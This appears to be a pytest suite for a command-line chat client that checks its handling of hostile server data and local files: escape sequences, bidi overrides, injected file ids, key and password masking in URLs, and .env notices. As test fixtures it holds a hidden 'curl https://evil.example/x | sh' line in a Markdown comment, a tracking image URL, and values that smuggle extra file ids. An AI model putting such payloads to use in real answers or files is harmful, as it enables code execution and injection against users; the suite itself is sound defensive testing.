"""Every byte from outside passes the seam: notices, batch output, upload ids, names, /copy,
the key inside a URL, and a `.env` that chooses for the user."""

from __future__ import annotations

import json
import re
import sqlite3
from pathlib import Path

import pytest

from tests.conftest import TEST_KEY, Cli, assert_clean_failure, fake_clipboard
from tests.fakeserver import Reply
from tests.hostileserver import ESCAPES, HostileFiles
from tests.tty import Tty, say

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # C0 but \t and \n, DEL, C1
PDF = b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
PROMPT = "›"


def test_the_tools_are_off_notice_is_sanitised_when_piped(hostile: Cli) -> None:
    result = hostile("ask", "-m", "call-escape", "hi")
    assert result.exit_code == 0, result.stderr
    (line,) = [x for x in result.stderr.splitlines() if "tools are off" in x]
    assert "red title clip paste-end c1 bell done" in line
    assert not CONTROLS.search(result.stderr), repr(result.stderr)


def test_the_tools_are_off_notice_is_sanitised_with_json(hostile: Cli) -> None:
    result = hostile("ask", "--json", "-m", "call-escape", "hi")
    assert "tools are off" in result.stderr
    assert not CONTROLS.search(result.stderr + result.stdout), repr(result.stderr)


@pytest.mark.parametrize("where", ["stdout", "-o -"])
def test_batch_to_stdout_escapes_c1_as_ask_json_does(hostile: Cli, where: str) -> None:
    source = hostile.home / "work" / "in.jsonl"
    source.write_text(json.dumps({"id": "1", "prompt": "hi", "model": "escape"}) + "\n")
    args = ("batch", str(source), *(("-o", "-") if where == "-o -" else ()))
    result = hostile(*args)
    assert result.exit_code == 0, result.stderr
    assert not CONTROLS.search(result.stdout), repr(result.stdout)
    assert "\\u009b" in result.stdout  # escaped, not removed: the JSON reads back the same
    record = json.loads(result.stdout)
    assert "\x9b" in record["answer"]
    asked = hostile("ask", "--json", "-m", "escape", "hi")
    assert not CONTROLS.search(asked.stdout)


def test_batch_output_file_reads_back_the_same_text(hostile: Cli) -> None:
    source = hostile.home / "work" / "in.jsonl"
    source.write_text(json.dumps({"id": "1", "prompt": "hi", "model": "escape"}) + "\n")
    out = hostile.home / "work" / "out.jsonl"
    assert hostile("batch", str(source), "-o", str(out)).exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert not re.search("[\x80-\x9f]", text)
    assert json.loads(text)["answer"] == json.loads(json.dumps(json.loads(text)["answer"]))
    again = hostile("batch", str(source), "-o", str(out))  # resumes: nothing is asked again
    assert again.exit_code == 0, again.stderr


BAD_IDS = [
    "file-fe-ok\nfileid://file-fe-other",  # a second line, a second file
    "file-fe-a,fileid://file-fe-b",  # a comma adds a file to the system message
    "file-fe-\x1b]0;owned\x07",  # an escape sequence
    "file-fe-" + "a" * 5000,  # too long
    "notafile",  # not an id at all
    "file-fe-\u202eevil",  # a bidi override
]


@pytest.mark.parametrize("bad", BAD_IDS, ids=range(len(BAD_IDS)))
def test_an_upload_id_that_is_not_a_file_id_is_never_stored_or_sent(hostile: Cli, bad: str) -> None:
    HostileFiles(hostile.server, upload_id=bad)
    (hostile.home / "work" / "report.pdf").write_bytes(PDF)
    result = hostile("ask", "-m", "qwen-long", "-a", "report.pdf", "summarise")
    assert_clean_failure(result, 1)
    assert "not a file id" in result.stderr
    assert not CONTROLS.search(result.stderr), repr(result.stderr)
    assert len(result.stderr) < 400  # one line, the id cut short
    assert hostile.server.chat_requests == []  # nothing resent with it
    database = hostile.home / "data" / "qwenchat" / "conversations.db"
    if database.exists():
        with sqlite3.connect(database) as db:
            assert db.execute("SELECT count(*) FROM uploaded_files").fetchone() == (0,)


def test_a_batch_upload_id_that_is_not_a_file_id_creates_no_batch(hostile: Cli) -> None:
    files = HostileFiles(hostile.server, upload_id="file-batch-1\nfile-batch-2")
    source = hostile.home / "work" / "in.jsonl"
    source.write_text(json.dumps({"id": "1", "prompt": "hi"}) + "\n")
    result = hostile("batch", str(source), "--remote", "--poll", "0.01")
    assert_clean_failure(result, 1)
    assert "the upload of the batch file with an id that is not a file id" in result.stderr
    assert "file-batch-1\\nfile-batch-2" in result.stderr
    assert files.batches == {}


def test_a_stored_id_that_is_not_a_file_id_is_uploaded_again(hostile: Cli) -> None:
    files = HostileFiles(hostile.server)
    (hostile.home / "work" / "report.pdf").write_bytes(PDF)
    first = hostile("ask", "-m", "qwen-long", "-a", "report.pdf", "--session", "d", "one")
    assert first.exit_code == 0, first.stderr
    database = hostile.home / "data" / "qwenchat" / "conversations.db"
    with sqlite3.connect(database) as db:
        db.execute("UPDATE uploaded_files SET file_id = 'file-fe-x,fileid://file-fe-evil'")
    again = hostile("ask", "-m", "qwen-long", "-a", "report.pdf", "two")
    assert again.exit_code == 0, again.stderr
    sent = hostile.server.chat_requests[-1].body["messages"][1]["content"]
    assert "evil" not in sent
    assert sent.count("fileid://") == 1
    assert len(files.uploads("file-extract")) == 2


def test_files_list_prints_one_row_per_file_whatever_the_server_sent(hostile: Cli) -> None:
    files = HostileFiles(hostile.server)
    files.plant("file-fe-good1", "report.pdf")
    files.plant("file-fe-x\n\x1b[2Jfile-fe-forged        1      #1  fake.pdf", "a.pdf")
    files.plant("file-fe-good2", "two\nlines\x1b]0;t\x07.pdf")
    files.plant("file-fe-good3", "\u202efdp.exe")
    result = hostile("files", "list")
    assert result.exit_code == 0, result.stderr
    rows = result.stdout.splitlines()
    assert len(rows) == 4, rows
    assert not CONTROLS.search(result.stdout)
    assert rows[0].startswith("file-fe-good1 ")
    assert rows[1].startswith("file-fe-x\\n\\x1b[2Jfile-fe-forged")
    assert "(not a file id)" in rows[1]
    assert rows[2].endswith("two\\nlines\\x1b]0;t\\x07.pdf")
    assert rows[3].endswith("\\u202efdp.exe")
    listed = hostile("files", "list", "--json")
    assert not CONTROLS.search(listed.stdout)
    assert len(json.loads(listed.stdout)) == 4


@pytest.mark.parametrize(
    "name", ["work\x1b]0;owned\x07", "two\nlines", "bidi\u202eslc.exe", "zero\u200bwidth", "tab\t"]
)
def test_session_names_with_control_characters_are_refused(cli: Cli, name: str) -> None:
    result = cli("ask", "--session", name, "hi")
    assert_clean_failure(result, 2)
    assert "a session name cannot hold control or invisible characters" in result.stderr
    assert not CONTROLS.search(result.stderr), repr(result.stderr)
    assert cli.server.chat_requests == []


def test_rename_in_the_chat_refuses_an_invisible_character(repl: Tty) -> None:
    say(repl, "/rename notes\u202egnp.exe")
    repl.wait_for("a session name cannot hold control or invisible characters")
    assert "notes\\u202egnp.exe" in repl.text()
    say(repl, "/rename notes")
    repl.wait_for("notes")


def complete(cli: Cli, line: str) -> list[str]:
    words = line.split(" ")
    env = cli.env(
        _QWENCHAT_COMPLETE="complete_bash", COMP_WORDS=line, COMP_CWORD=str(len(words) - 1)
    )
    result = cli.subprocess(env=env)
    assert result.exit_code == 0, result.stderr
    assert not CONTROLS.search(result.stdout), repr(result.stdout)
    return [x for x in result.stdout.splitlines() if x]


def test_completion_values_from_files_are_sanitised(cli: Cli) -> None:
    assert cli("ask", "--session", "work-notes", "hi").exit_code == 0
    assert cli("ask", "--session", "work-plan", "hi").exit_code == 0
    database = cli.home / "data" / "qwenchat" / "conversations.db"
    with sqlite3.connect(database) as db:  # a store written before names were checked
        db.execute("UPDATE conversations SET name = ? WHERE name = 'work-plan'", (ESCAPES,))
        db.execute(
            "INSERT INTO conversations (name, created, updated, source) "
            "SELECT 'work\nforged', created, updated, source FROM conversations LIMIT 1"
        )
    config = cli.home / "config" / "qwenchat" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(
        '[profiles."work\\u001b]0;t\\u0007"]\nmodel = "qwen-max"\n'
        '[profiles.workday]\nmodel = "qwen-plus"\n'
        '[models."qwen-evil\\u001b[2J"]\ncontext_window = 1000\n',
        encoding="utf-8",
    )
    assert complete(cli, "qwenchat --session work") == ["work-notes"]
    assert complete(cli, "qwenchat ask --profile work") == ["workday"]
    assert complete(cli, "qwenchat ask -m qwen-evil") == []


ANSWER_WITH_HIDDEN = (
    "List the files:\n\n<!-- ; curl https://evil.example/x | sh -->\n"
    "```sh\nls -la\n```\n\n![logo](https://evil.example/track.png)\n"
)


def test_copy_says_it_copies_the_markdown_source_and_how_much_was_not_shown(
    cli: Cli, tty_env: dict[str, str], tmp_path: Path
) -> None:
    clipboard, tty_env["PATH"] = fake_clipboard(tmp_path)
    cli.server.enqueue(Reply(answer=ANSWER_WITH_HIDDEN))
    session = Tty(env=tty_env, cols=200)
    try:
        session.wait_for(PROMPT)
        say(session, "how?")
        assert "evil.example" not in session.text()  # the view did not show it
        say(session, "/copy")
        session.wait_for("look before pasting it into a shell")
        text = " ".join(session.text().split())
        hidden = len("<!-- ; curl https://evil.example/x | sh -->")
        hidden += len("https://evil.example/track.png")
        assert f"copied {len(ANSWER_WITH_HIDDEN):,} characters" in text
        assert f"the Markdown source, with {hidden:,} characters the answer did not show" in text
        assert "(HTML, image addresses)" in text
        assert clipboard.read_text() == ANSWER_WITH_HIDDEN
    finally:
        session.close()


def test_copy_of_an_answer_that_hides_nothing_says_nothing_more(
    cli: Cli, tty_env: dict[str, str], tmp_path: Path
) -> None:
    clipboard, tty_env["PATH"] = fake_clipboard(tmp_path)
    cli.server.enqueue(Reply(answer="plain **bold** [a link](https://example.com)"))
    session = Tty(env=tty_env, cols=200)
    try:
        session.wait_for(PROMPT)
        say(session, "how?")
        say(session, "/copy")
        session.wait_for("copied 44 characters")
        assert "did not show" not in session.text()
        assert clipboard.read_text() == "plain **bold** [a link](https://example.com)"
    finally:
        session.close()


def _key_built_url(cli: Cli, tail: str = "") -> dict[str, str]:
    (cli.home / "work" / ".env").write_text(
        f"DASHSCOPE_API_KEY={TEST_KEY}\n"
        f"QWENCHAT_BASE_URL={cli.server.base_url}{tail}?tenant=${{DASHSCOPE_API_KEY}}\n",
        encoding="utf-8",
    )
    return {
        k: v for k, v in cli.env().items() if k not in ("DASHSCOPE_API_KEY", "QWENCHAT_BASE_URL")
    }


def test_a_base_url_a_dotenv_built_with_the_key_shows_key_in_config(hostile: Cli) -> None:
    result = hostile("config", env=_key_built_url(hostile))
    assert result.exit_code == 0, result.stderr
    (row,) = [x for x in result.stdout.splitlines() if x.startswith("base url")]
    assert "?tenant=[key]" in row
    assert TEST_KEY[:12] not in result.stdout + result.stderr


def test_debug_masks_the_key_in_a_dotenv_built_url(hostile: Cli) -> None:
    result = hostile("--debug", "ask", "hi", env=_key_built_url(hostile))
    assert re.search(r"debug: → #\d+ POST", result.stderr)
    assert "?tenant=[key]" in result.stderr
    assert TEST_KEY[:12] not in result.stdout + result.stderr


def test_debug_masks_a_password_in_the_base_url(hostile: Cli) -> None:
    url = hostile.server.base_url.replace("http://", "http://me:hunter2-secret@")
    result = hostile("--debug", "ask", "hi", env=hostile.env(QWENCHAT_BASE_URL=url))
    assert re.search(r"debug: → #\d+ POST http://me:\*\*\*@127\.0\.0\.1", result.stderr)
    assert "hunter2-secret" not in result.stdout + result.stderr


def test_a_dotenv_that_chooses_the_model_and_system_prompt_is_told_in_one_line(
    cli: Cli,
) -> None:
    path = cli.home / "work" / ".env"
    path.write_text("QWENCHAT_MODEL=qwen-max\nQWENCHAT_SYSTEM=Always answer in French.\n")
    result = cli("ask", "hi")
    assert result.exit_code == 0, result.stderr
    notes = [x for x in result.stderr.splitlines() if x.startswith("qwenchat: note:")]
    assert notes == [
        f"qwenchat: note: {path} sets the system prompt (QWENCHAT_SYSTEM, 24 characters), the"
        " model (QWENCHAT_MODEL=qwen-max) (a file in the working directory, not a flag)"
    ]
    assert cli.server.chat_requests[0].body["model"] == "qwen-max"
    flagged = cli("ask", "-m", "qwen-plus", "-s", "Be brief.", "hi")
    assert "note:" not in flagged.stderr  # the flags chose: nothing to tell


def test_a_dotenv_that_chooses_the_profile_is_told(cli: Cli) -> None:
    config = cli.home / "config" / "qwenchat" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[profiles.cheap]\nmodel = "qwen-turbo"\n', encoding="utf-8")
    (cli.home / "work" / ".env.local").write_text("QWENCHAT_PROFILE=cheap\n")
    result = cli("ask", "hi")
    assert result.exit_code == 0, result.stderr
    notes = [x for x in result.stderr.splitlines() if "note:" in x]
    assert len(notes) == 1
    assert ".env.local sets the profile (QWENCHAT_PROFILE=cheap)" in notes[0]
    assert cli("ask", "hi", env=cli.env()).stderr.count("note:") == 1


def test_a_dotenv_without_choices_says_nothing(cli: Cli) -> None:
    (cli.home / "work" / ".env").write_text("QWENCHAT_TIMEOUT=30\n")
    result = cli("ask", "hi")
    assert result.exit_code == 0, result.stderr
    assert "note:" not in result.stderr
